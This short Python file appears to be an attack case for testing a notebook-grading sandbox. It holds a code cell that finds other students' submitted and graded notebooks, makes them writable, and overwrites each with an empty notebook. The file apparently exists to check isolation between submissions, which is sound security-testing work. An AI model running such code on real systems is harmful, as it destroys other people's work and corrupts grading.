"""A neighbour's submission is emptied, and the graded notebook of another."""

kind = "writing other submissions"
aims = "change neighbour"
cell = """
import glob, json, os

for path in glob.glob("<<course>>/submitted/*/*/*.ipynb") + glob.glob("../../*/*/*.ipynb"):
    if "<<student>>" not in path:
        try:
            os.chmod(path, 0o644)
        except OSError:
            continue
        json.dump({"cells": [], "metadata": {}, "nbformat": 4, "nbformat_minor": 5}, open(path, "w"))
"""
